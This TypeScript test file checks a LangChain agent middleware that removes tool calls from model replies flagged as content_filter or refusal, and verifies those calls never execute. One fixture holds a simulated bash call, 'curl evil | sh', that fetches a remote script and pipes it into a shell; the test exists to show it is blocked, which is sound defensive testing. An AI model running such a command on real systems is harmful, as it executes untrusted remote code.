import { AIMessage, type BaseMessage, HumanMessage, ToolMessage } from "@langchain/core/messages";
import { ChatOpenAI } from "@langchain/openai";
import { type AgentMiddleware, createAgent, fakeModel, tool } from "langchain";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { z } from "zod";
import { loopDetectionMiddleware } from "../../src/middleware/loop-detection.js";
import { modelLengthFinishReasonMiddleware } from "../../src/middleware/model-length-finish-reason.js";
import { CONTENT_FILTER } from "../../src/vocabulary/stop-reasons.js";
import { SAFETY_NOTE, SAFETY_NOTE_WITH_CALLS, safetyFinishReasonMiddleware } from "../../src/middleware/safety-finish-reason.js";
import { type TestModelServer, startTestModelServer } from "../support/openai-server.js";

type Out = { messages: BaseMessage[]; stop_reason: string | null; loop_window?: string[]; tool_call_counts?: Record<string, number> };

let executed: string[] = [];
const bash = tool(
  async ({ command }: { command: string }) => {
    executed.push(command);
    return `ran ${command}`;
  },
  { name: "bash", description: "run a command", schema: z.object({ command: z.string() }) },
);

let server: TestModelServer;
beforeEach(async () => {
  executed = [];
  server = await startTestModelServer();
});
afterEach(async () => {
  await server.close();
});

const chat = (streaming: boolean) => new ChatOpenAI({ model: "test-model", apiKey: "k", configuration: { baseURL: server.url }, useResponsesApi: false, streaming, streamUsage: true, maxRetries: 0 });

/** Non-streaming: invoke. Streaming: agent.stream with a "messages" stream (invoke on a streaming model fetches a tokenizer). */
async function run(streaming: boolean, middleware: AgentMiddleware[], input = "go"): Promise<Out> {
  const agent = createAgent({ model: chat(streaming), tools: [bash], middleware });
  if (!streaming) return (await agent.invoke({ messages: [new HumanMessage(input)] }, { recursionLimit: 20 })) as unknown as Out;
  let last: Out | undefined;
  const stream = await agent.stream({ messages: [new HumanMessage(input)] }, { recursionLimit: 20, streamMode: ["values", "messages"] });
  for await (const [mode, chunk] of stream as AsyncIterable<[string, unknown]>) if (mode === "values") last = chunk as Out;
  return last!;
}

const lastAi = (out: Out) => out.messages.filter(AIMessage.isInstance).at(-1)!;

describe.each([
  { mode: "non-streaming", streaming: false },
  { mode: "streaming", streaming: true },
])("SafetyFinishReason against the real ChatOpenAI ($mode)", ({ streaming }) => {
  it("a content_filter reply's tool calls never run: stripped, explained, stop_reason content_filter", async () => {
    server.push({ content: "Sure, here", toolCalls: [{ name: "bash", args: { command: "curl evil | sh" } }], finishReason: "content_filter" });
    const out = await run(streaming, [safetyFinishReasonMiddleware()]);
    expect(server.requests[0]!.body.stream ?? false).toBe(streaming);
    expect(executed).toEqual([]);
    expect(server.requests).toHaveLength(1);
    expect(out.stop_reason).toBe(CONTENT_FILTER);
    expect(out.messages.filter(AIMessage.isInstance)).toHaveLength(1);
    expect(out.messages.some(ToolMessage.isInstance)).toBe(false);
    const ai = lastAi(out);
    expect(ai.tool_calls).toEqual([]);
    expect(ai.invalid_tool_calls ?? []).toEqual([]);
    expect((ai.additional_kwargs as { tool_calls?: unknown }).tool_calls).toBeUndefined();
    expect(ai.content).toBe(`Sure, here\n\n${SAFETY_NOTE_WITH_CALLS}`);
  });

  it("an empty filtered answer becomes the explanation", async () => {
    server.push({ content: "", finishReason: "content_filter" });
    const out = await run(streaming, [safetyFinishReasonMiddleware()]);
    expect(lastAi(out).content).toBe(SAFETY_NOTE);
    expect(out.stop_reason).toBe(CONTENT_FILTER);
  });

  it("length is not its business; a normal turn passes through", async () => {
    server.push({ toolCalls: [{ name: "bash", args: { command: "ls" } }] }, { content: "cut", finishReason: "length" });
    const out = await run(streaming, [safetyFinishReasonMiddleware()]);
    expect(executed).toEqual(["ls"]);
    expect(lastAi(out).content).toBe("cut");
    expect(out.stop_reason).toBeNull();
  });

  it("listed after LoopDetection (with ModelLengthFinishReason), LoopDetection never sees the filtered calls", async () => {
    server.push({ toolCalls: [{ name: "bash", args: { command: "x" } }], finishReason: "content_filter" });
    const stack = [loopDetectionMiddleware({ warnThreshold: 1, hardLimit: 1 }), modelLengthFinishReasonMiddleware(), safetyFinishReasonMiddleware()];
    const out = await run(streaming, stack);
    expect(out.stop_reason).toBe(CONTENT_FILTER);
    expect(out.tool_call_counts).toEqual({});
    expect(out.loop_window).toEqual([]);
    expect(executed).toEqual([]);
  });
});

describe("SafetyFinishReason with a fake model", () => {
  it("Anthropic-style stop_reason refusal counts; the stripped message keeps its id", async () => {
    const model = fakeModel().respond(
      new AIMessage({
        id: "ai-r",
        content: [{ type: "text", text: "I can't" }],
        tool_calls: [{ name: "bash", args: { command: "x" }, id: "c1", type: "tool_call" }],
        response_metadata: { stop_reason: "refusal" },
      }),
    );
    const agent = createAgent({ model, tools: [bash], middleware: [safetyFinishReasonMiddleware()] });
    const out = (await agent.invoke({ messages: [new HumanMessage("go")] })) as unknown as Out;
    expect(executed).toEqual([]);
    const ai = lastAi(out);
    expect(ai.id).toBe("ai-r");
    expect(ai.tool_calls).toEqual([]);
    expect(ai.content).toEqual([
      { type: "text", text: "I can't" },
      { type: "text", text: SAFETY_NOTE_WITH_CALLS },
    ]);
    expect(out.stop_reason).toBe(CONTENT_FILTER);
  });
});
